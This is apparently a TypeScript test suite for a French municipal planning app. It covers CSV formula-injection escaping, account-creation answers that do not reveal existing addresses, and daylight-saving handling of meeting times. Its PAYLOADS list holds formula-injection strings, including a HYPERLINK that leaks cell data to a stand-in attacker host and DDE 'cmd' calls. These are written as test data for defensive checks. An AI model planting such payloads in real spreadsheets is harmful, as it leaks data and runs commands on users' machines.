import { expect } from 'chai';
import { toCsv } from '../src/web/csv';
import { ACCOUNTS, freshApp, NOW, postForm, signIn, type TestApp, textOf } from './helpers';

/** Reads a CSV as this app writes it (BOM, `;`, fields quoted with "" when needed) into rows of cells. */
function parseCsv(text: string): string[][] {
  const body = text.replace(/^\ufeff/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') { row.push(cell); cell = ''; }
    else if (c === '\n' || (c === '\r' && body[i + 1] === '\n')) {
      if (c === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

/** What a spreadsheet would run as a formula: a cell starting with = + - @, a tab or a carriage return, also after spaces. */
const formulaLike = (cell: string) => /^(?:[\t\r]|\s*[=+\-@])/.test(cell);
/** A number written by the app as a number ("-3", "0.25") is data, not a formula. */
const plainNumber = (cell: string) => /^-?\d+(?:\.\d+)?$/.test(cell);

const PAYLOADS = [
  '=HYPERLINK("https://attaquant.example/?d="&A1;"Cliquez ici")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3',
  '\t=1+1',
  ' =2+5',
  '\r=3+3',
];
const hostile = (i: number) => `${PAYLOADS[i % PAYLOADS.length]} ${i}`;

describe('CSV exports against formula injection', function () {
  this.timeout(60_000);
  let t: TestApp;
  afterEach(async () => t.close());

  it('neutralises every hostile text in every dashboard export, keeping numbers as numbers', async () => {
    t = await freshApp();
    let n = 0;
    // Hostile values wherever a user can type a name or a text that the dashboard shows.
    for (const table of ['teams', 'services', 'communes'] as const) {
      for (const { id } of await t.db(table).select('id')) await t.db(table).where({ id }).update({ name: hostile(n++) });
    }
    for (const { id } of await t.db('fiches').select('id')) await t.db('fiches').where({ id }).update({ title: hostile(n++) });
    for (const { id } of await t.db('steps').select('id')) await t.db('steps').where({ id }).update({ label: hostile(n++) });
    for (const { id } of await t.db('side_effects').select('id')) await t.db('side_effects').where({ id }).update({ description: hostile(n++) });
    for (const { id } of await t.db('milestones').select('id')) await t.db('milestones').where({ id }).update({ title: hostile(n++) });

    const admin = await signIn(t.app, ACCOUNTS.admin);
    const page = await admin.get('/homologations/1/tableau-de-bord').expect(200);
    const exports = [...new Set([...page.text.matchAll(/href="\/homologations\/1\/tableau-de-bord\?(?:[^"]*&amp;)?export=([a-z-]+)"/g)].map((m) => m[1]!))];
    expect(exports, 'the exports the dashboard offers').to.have.length(12);

    const withHostileText: string[] = [];
    for (const name of exports) {
      const res = await admin.get(`/homologations/1/tableau-de-bord?export=${name}`).expect(200).expect('Content-Type', /text\/csv/);
      expect(res.text.startsWith('\ufeff'), `${name}: BOM`).to.equal(true);
      const rows = parseCsv(res.text);
      expect(rows.length, `${name}: rows`).to.be.greaterThan(1);
      expect(rows[0]!.length, `${name}: ; delimiter`).to.be.greaterThan(1);
      for (const row of rows) {
        for (const cell of row) {
          expect(formulaLike(cell) && !plainNumber(cell), `${name}: the cell ${JSON.stringify(cell)} would run as a formula`).to.equal(false);
        }
      }
      // the hostile text is still there, readable, behind the quote
      if (rows.some((r) => r.some((c) => PAYLOADS.some((p) => c.startsWith(`'${p}`))))) withHostileText.push(name);
    }
    expect(withHostileText.sort()).to.deep.equal(['a-venir', 'calendrier', 'communes', 'deploiements', 'effets-forts', 'equipes', 'retards', 'services']);
  });

  it('writes numbers as numbers, a negative one included, and neutralises the same characters in a text', () => {
    expect(toCsv([[-3, 2.5, '-3', '-2+3', ' @A1', 'a=b', '', null]])).to.equal("\ufeff-3;2.5;'-3;'-2+3;' @A1;a=b;;\n");
  });

  it('neutralises the audit journal export with the same rule, spaces before the formula included', async () => {
    t = await freshApp();
    const user = await t.db('users').where('email', ACCOUNTS.editor).first();
    for (const [i, payload] of PAYLOADS.entries()) {
      await t.db('audit_log').insert({
        at: new Date(NOW.getTime() - 1000 * (i + 1)).toISOString(), user_id: user.id, actor: payload, action: 'update', entity_type: ` =type${i}`,
        entity_id: null, summary: payload,
      });
    }
    const admin = await signIn(t.app, ACCOUNTS.admin);
    const res = await admin.get('/admin/journal.csv').expect(200).expect('Content-Type', /text\/csv/);
    const rows = parseCsv(res.text);
    for (const row of rows) for (const cell of row) expect(formulaLike(cell), `journal: ${JSON.stringify(cell)}`).to.equal(false);
    for (const payload of PAYLOADS) expect(rows.some((r) => r.includes(`'${payload}`)), payload).to.equal(true);
  });
});

describe('a commune administrator creating an account for an address already registered', function () {
  this.timeout(60_000);
  let t: TestApp;
  afterEach(async () => t.close());

  /** What the administrator reads, with the address typed and any one-time link set aside. */
  const seen = (html: string, email: string) => textOf(html).split(email).join('«adresse»').replace(/\/mot-de-passe\/[\w-]+/g, '/mot-de-passe/«lien»');

  for (const smtpUrl of ['smtp://127.0.0.1:9', null]) {
    it(`answers exactly as for a new address, changes nothing and tells the owner by e-mail (${smtpUrl ? 'with' : 'without'} an SMTP server)`, async () => {
      t = await freshApp({ mail: { smtpUrl, from: 'Plan RGS <plan@metropole.example.org>', publicUrl: 'https://plan.metropole.example.org', leaseSeconds: 60, maxAttempts: 3, timeZone: 'Europe/Paris' } });
      const dsi = await signIn(t.app, ACCOUNTS.communeAdmin);
      const fresh = 'nouvel.agent@villeurbanne.example.org';
      const created = await postForm(dsi, '/ma-commune/utilisateurs', '/ma-commune/utilisateurs', { name: 'Agent Nouveau', email: fresh });
      expect(await t.db('users').where({ email: fresh }).first()).to.not.equal(undefined);

      // a Métropole account, typed in capitals
      const existing = ACCOUNTS.viewer.toUpperCase();
      const owner = await t.db('users').where({ email: ACCOUNTS.viewer }).first();
      const [users, tokens, outbox] = await Promise.all([t.db('users').count({ n: '*' }).first(), t.db('auth_tokens').count({ n: '*' }).first(), t.db('outbox').max({ id: 'id' }).first()]);
      const res = await postForm(dsi, '/ma-commune/utilisateurs', '/ma-commune/utilisateurs', { name: 'Agent Nouveau', email: existing });

      expect(res.status, 'status').to.equal(created.status);
      expect(seen(res.text, existing)).to.equal(seen(created.text, fresh));
      expect(textOf(res.text)).not.to.match(/existe déjà/i);
      // nothing created, the account untouched, no link issued for it
      expect(Number((await t.db('users').count({ n: '*' }).first())!.n)).to.equal(Number(users!.n));
      expect(await t.db('users').where({ id: owner.id }).first()).to.deep.equal(owner);
      expect(Number((await t.db('auth_tokens').count({ n: '*' }).first())!.n)).to.equal(Number(tokens!.n));
      // the owner is told, in French, through the outbox
      const messages = await t.db('outbox').where('id', '>', Number(outbox!.id ?? 0));
      expect(messages.map((m: { to_address: string }) => m.to_address)).to.deep.equal([ACCOUNTS.viewer]);
      expect(messages[0].subject).to.contain('votre adresse');
      expect(messages[0].text).to.contain('Villeurbanne').and.contain('aucun compte n’a été créé').and.contain('Bonjour');
      // audited, as a security event
      const audit = await t.db('audit_log').where({ action: 'duplicate_account', entity_id: owner.id }).first();
      expect(audit.summary).to.contain('Villeurbanne');
      // a second try the same day does not flood the owner
      await postForm(dsi, '/ma-commune/utilisateurs', '/ma-commune/utilisateurs', { name: 'Agent Nouveau', email: existing });
      expect(Number((await t.db('outbox').where('id', '>', Number(outbox!.id ?? 0)).count({ n: '*' }).first())!.n)).to.equal(1);
    });
  }
});

describe('meeting times on the daylight-saving changes (Paris time)', function () {
  this.timeout(60_000);
  let t: TestApp;
  afterEach(async () => t.close());

  const meeting = {
    title: 'Comité de nuit', kind: 'suivi', date: '2027-03-28', startTime: '02:30', endTime: '04:00', place: 'Salle 1', visioUrl: '',
    objective: 'Suivre le plan.', reminder: '', questions: '', coverage: 'all',
  };
  /** The message under a form field, as a reader sees it, if any. */
  const fieldError = (html: string, field: string) => {
    const m = new RegExp(`<p id="${field}-error" class="fr-error-text">([\\s\\S]*?)</p>`).exec(html);
    return m ? textOf(m[1]!).trim() : null;
  };
  const dtstart = (ics: string) => /^DTSTART:(\S+)/m.exec(ics)?.[1];
  const dtend = (ics: string) => /^DTEND:(\S+)/m.exec(ics)?.[1];
  const create = async (editor: Awaited<ReturnType<typeof signIn>>, fields: Record<string, string>) => {
    const res = await postForm(editor, '/homologations/1/seances/nouvelle', '/homologations/1/seances', { ...meeting, ...fields });
    expect(res.status, fieldError(res.text, 'startTime') ?? fieldError(res.text, 'endTime') ?? '').to.equal(303);
    return Number(/\/seances\/(\d+)/.exec(res.headers.location!)![1]);
  };

  it('refuses a start or an end in the hour that does not exist on the last Sunday of March, with the message under the field and the input kept', async () => {
    t = await freshApp();
    const editor = await signIn(t.app, ACCOUNTS.editor);
    const before = Number((await t.db('meetings').count({ n: '*' }).first())!.n);
    const start = await postForm(editor, '/homologations/1/seances/nouvelle', '/homologations/1/seances', meeting);
    expect(start.status).to.equal(422);
    expect(fieldError(start.text, 'startTime')).to.match(/n'existe pas/).and.contain('28/03/2027').and.contain('02:00').and.contain('03:00');
    expect(start.text).to.match(/<input[^>]*id="startTime"[^>]*value="02:30"|<input[^>]*value="02:30"[^>]*id="startTime"/);
    expect(start.text).to.contain('value="Comité de nuit"');
    const end = await postForm(editor, '/homologations/1/seances/nouvelle', '/homologations/1/seances', { ...meeting, startTime: '01:00', endTime: '02:00' });
    expect(end.status).to.equal(422);
    expect(fieldError(end.text, 'endTime')).to.match(/n'existe pas/);
    expect(fieldError(end.text, 'startTime')).to.equal(null);
    expect(Number((await t.db('meetings').count({ n: '*' }).first())!.n)).to.equal(before);
  });

  it('puts the right instants in the invitation around both changes, the first occurrence of the repeated autumn hour', async () => {
    t = await freshApp();
    const editor = await signIn(t.app, ACCOUNTS.editor);
    const spring = await create(editor, { startTime: '03:30', endTime: '05:00' });
    const ics = (await editor.get(`/homologations/1/seances/${spring}/invitation.ics`).expect(200)).text;
    expect([dtstart(ics), dtend(ics)]).to.deep.equal(['20270328T013000Z', '20270328T030000Z']);
    const across = await create(editor, { startTime: '01:30', endTime: '03:30' });
    const acrossIcs = (await editor.get(`/homologations/1/seances/${across}/invitation.ics`).expect(200)).text;
    expect([dtstart(acrossIcs), dtend(acrossIcs)], 'one real hour across the change').to.deep.equal(['20270328T003000Z', '20270328T013000Z']);
    const autumn = await create(editor, { date: '2027-10-31', startTime: '02:30', endTime: '03:30' });
    const autumnIcs = (await editor.get(`/homologations/1/seances/${autumn}/invitation.ics`).expect(200)).text;
    expect([dtstart(autumnIcs), dtend(autumnIcs)], '02:30 summer time, 03:30 winter time').to.deep.equal(['20271031T003000Z', '20271031T023000Z']);
    const winter = await create(editor, { date: '2027-01-12', startTime: '14:00', endTime: '16:00' });
    expect(dtstart((await editor.get(`/homologations/1/seances/${winter}/invitation.ics`).expect(200)).text)).to.equal('20270112T130000Z');
  });

  it('never answers 500 for the invitation of a meeting stored with an impossible time', async () => {
    t = await freshApp();
    const editor = await signIn(t.app, ACCOUNTS.editor);
    const id = await create(editor, { startTime: '03:30', endTime: '05:00' });
    // saved before the form checked it: read as iCalendar does (RFC 5545: the offset before the gap), 02:15 is 03:15 summer time
    await t.db('meetings').where({ id }).update({ starts_at: '2027-03-28T02:15', ends_at: '2027-03-28T04:00' });
    const shifted = await editor.get(`/homologations/1/seances/${id}/invitation.ics`).expect(200);
    expect(dtstart(shifted.text)).to.equal('20270328T011500Z');
    // an end that comes to the same instant as the start, or a time that cannot be read: a clear page, not a crash
    for (const [startsAt, endsAt] of [['2027-03-28T02:30', '2027-03-28T03:30'], ['2027-03-28T25:99', '2027-03-28T26:00'], ['n\'importe', 'quoi']]) {
      await t.db('meetings').where({ id }).update({ starts_at: startsAt, ends_at: endsAt });
      const res = await editor.get(`/homologations/1/seances/${id}/invitation.ics`);
      expect(res.status, `${startsAt} – ${endsAt}`).to.equal(409);
      expect(textOf(res.text)).to.contain('Modifiez la séance');
    }
  });
});
